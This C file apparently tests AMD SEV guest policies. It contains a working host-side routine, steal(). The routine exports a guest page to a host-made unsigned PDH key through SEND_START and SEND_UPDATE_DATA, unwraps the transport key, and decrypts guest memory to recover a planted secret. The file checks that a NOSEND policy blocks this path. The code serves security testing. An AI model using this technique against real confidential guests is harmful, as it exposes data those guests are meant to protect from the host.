/* SPDX-License-Identifier: Apache-2.0 */
/* A host that sends a guest to a key of its own, and reads it. */
#include <errno.h>
#include <fcntl.h>
#include <openssl/core_names.h>
#include <openssl/ec.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <string.h>
#include <unistd.h>

#include "client.h"

#define HDR_LEN 52
static const char secret[] = "nobody but the guest should read this";

/* -- Certificates (SEV API, appendix C): what of them is looked at --------- */

#define AT_X 0x14
#define AT_Y 0x5c

static void put32(uint8_t *p, uint32_t value)
{
    memcpy(p, &value, sizeof value); /* one byte order only */
}

static void turn(const uint8_t *from, uint8_t *to)
{
    for (size_t i = 0; i < 48; i++) {
        to[i] = from[47 - i];
    }
}

/* A PDH that nobody signed. */
static void make_pdh(EVP_PKEY *key, uint8_t ret[static CERT_LEN])
{
    uint8_t point[97] = { 0 };
    size_t n = 0;

    CHECK(EVP_PKEY_get_octet_string_param(key, OSSL_PKEY_PARAM_PUB_KEY, point,
                                          sizeof point, &n) &&
          n == sizeof point);
    memset(ret, 0, CERT_LEN);
    put32(ret, 1);
    put32(ret + 0x08, 0x1003); /* PDH */
    put32(ret + 0x0c, 3);      /* ECDH with SHA-256 */
    put32(ret + 0x10, 2);      /* P-384 */
    turn(point + 1, ret + AT_X);
    turn(point + 49, ret + AT_Y);
    put32(ret + 0x414, 0x1000); /* no signature */
    put32(ret + 0x61c, 0x1000);
}

static EVP_PKEY *read_pdh(const uint8_t pdh[static CERT_LEN])
{
    EVP_PKEY *key = EVP_EC_gen("P-384"); /* for its group */
    uint8_t point[97] = { 4 };

    turn(pdh + AT_X, point + 1);
    turn(pdh + AT_Y, point + 49);
    CHECK(key != NULL &&
          EVP_PKEY_set1_encoded_public_key(key, point, sizeof point) == 1);
    return key;
}

/* -- Keys (SEV API 2.2.2) -------------------------------------------------- */

static void derive(const uint8_t *key, size_t n, const char *label,
                   const uint8_t *context, size_t context_len,
                   uint8_t ret[static 16])
{
    uint8_t in[64] = { 1 };
    uint8_t out[32];
    unsigned len = sizeof out;
    size_t at_ = 4 + strlen(label) + 1;

    memcpy(in + 4, label, strlen(label));
    if (context_len > 0) {
        memcpy(in + at_, context, context_len);
    }
    at_ += context_len;
    put32(in + at_, 128);
    CHECK(HMAC(EVP_sha256(), key, (int)n, in, at_ + 4, out, &len) != NULL);
    memcpy(ret, out, 16);
}

static void decrypt(const uint8_t key[static 16], const uint8_t iv[static 16],
                    const uint8_t *from, uint8_t *to, int n)
{
    EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
    int len = 0;

    CHECK(ctx != NULL &&
          EVP_DecryptInit_ex(ctx, EVP_aes_128_ctr(), NULL, key, iv) &&
          EVP_DecryptUpdate(ctx, to, &len, from, n) && len == n);
    EVP_CIPHER_CTX_free(ctx);
}

/* The TEK, out of the session that SEND_START made for KEY. */
static void unwrap(EVP_PKEY *key, const uint8_t *sender,
                   const uint8_t session[static SESSION_LEN],
                   uint8_t ret_tek[static 16])
{
    EVP_PKEY *peer = read_pdh(sender);
    EVP_PKEY_CTX *ctx = EVP_PKEY_CTX_new(key, NULL);
    uint8_t z[48];
    uint8_t master[16];
    uint8_t kek[16];
    uint8_t keys[32];
    size_t n = sizeof z;

    CHECK(ctx != NULL && EVP_PKEY_derive_init(ctx) == 1 &&
          EVP_PKEY_derive_set_peer(ctx, peer) == 1 &&
          EVP_PKEY_derive(ctx, z, &n) == 1 && n == sizeof z);
    derive(z, sizeof z, "sev-master-secret", session, 16, master);
    derive(master, sizeof master, "sev-kek", NULL, 0, kek);
    decrypt(kek, session + 0x30, session + 0x10, keys, sizeof keys);
    memcpy(ret_tek, keys, 16);
    EVP_PKEY_CTX_free(ctx);
    EVP_PKEY_free(peer);
}

/* -- The host --------------------------------------------------------------- */

static int send_to(int vm, int sev, uint8_t *pdh, uint8_t *session)
{
    uint8_t nothing[16] = {
        0
    }; /* certificates that the policy wants none of */
    struct kvm_sev_send_start s = { .pdh_cert_uaddr = at(pdh),
                                    .pdh_cert_len = CERT_LEN,
                                    .plat_certs_uaddr = at(nothing),
                                    .plat_certs_len = sizeof nothing,
                                    .amd_certs_uaddr = at(nothing),
                                    .amd_certs_len = sizeof nothing,
                                    .session_uaddr = at(session),
                                    .session_len = SESSION_LEN };

    return encrypt_op(vm, KVM_SEV_SEND_START, &s, sev);
}

static void export_pdh(int sev, uint8_t pdh[static CERT_LEN])
{
    static uint8_t chain[CHAIN_LEN];
    struct sev_user_data_pdh_cert_export e = { at(pdh), CERT_LEN, at(chain),
                                               CHAIN_LEN };

    EXPECT(issue(sev, SEV_PDH_CERT_EXPORT, &e), 0, 0);
}

/* NODBG, NOKS, ES: no other way is open, and this one is. */
static void steal(int vm, int sev, uint8_t *page, EVP_PKEY *key, uint8_t *pdh)
{
    static uint8_t trans[PAGE];
    static uint8_t plain[PAGE];
    static uint8_t sender[CERT_LEN];
    uint8_t session[SESSION_LEN] = { 0 };
    uint8_t hdr[HDR_LEN];
    uint8_t tek[16];
    struct kvm_sev_send_update_data u = { .hdr_uaddr = at(hdr),
                                          .hdr_len = HDR_LEN,
                                          .guest_uaddr = at(page),
                                          .guest_len = PAGE,
                                          .trans_uaddr = at(trans),
                                          .trans_len = PAGE };

    export_pdh(sev, sender);
    EXPECT(send_to(vm, sev, pdh, session), 0, 0);
    EXPECT(encrypt_op(vm, KVM_SEV_SEND_UPDATE_DATA, &u, sev), 0, 0);
    CHECK(memmem(trans, sizeof trans, secret, sizeof secret) == NULL);
    unwrap(key, sender, session, tek);
    decrypt(tek, hdr + 4, trans, plain, PAGE);
    CHECK(memcmp(plain + 100, secret, sizeof secret) == 0);
}

void part_steal(char **words)
{
    int kvm = open_device("/dev/kvm", O_RDWR);
    int sev = open_device("/dev/sev", O_RDWR);
    EVP_PKEY *key = EVP_EC_gen("P-384");
    static uint8_t pdh[CERT_LEN];
    uint8_t session[SESSION_LEN] = { 0 };
    uint8_t plain[64];

    (void)words;
    make_pdh(key, pdh);
    for (uint32_t policy = 0x07; policy <= 0x0f; policy += 8) {
        uint8_t *page = make_memory(PAGE);
        int vm = start_guest(kvm, sev, policy, NULL);

        memcpy(page + 100, secret, sizeof secret);
        EXPECT(update_data(vm, sev, page, PAGE), 0, 0);
        finish_guest(vm, sev);
        CHECK(memcmp(page + 100, secret, sizeof secret) != 0);
        EXPECT(dbg(vm, sev, false, page + 96, plain, sizeof plain), EIO, 7);
        if (policy == 0x07) {
            steal(vm, sev, page, key, pdh);
        } else {
            EXPECT(send_to(vm, sev, pdh, session), EIO, 7);
            CHECK(guest_state(vm, sev) == 3);
        }
        close(vm);
    }
    EVP_PKEY_free(key);
    close(sev);
    close(kvm);
}
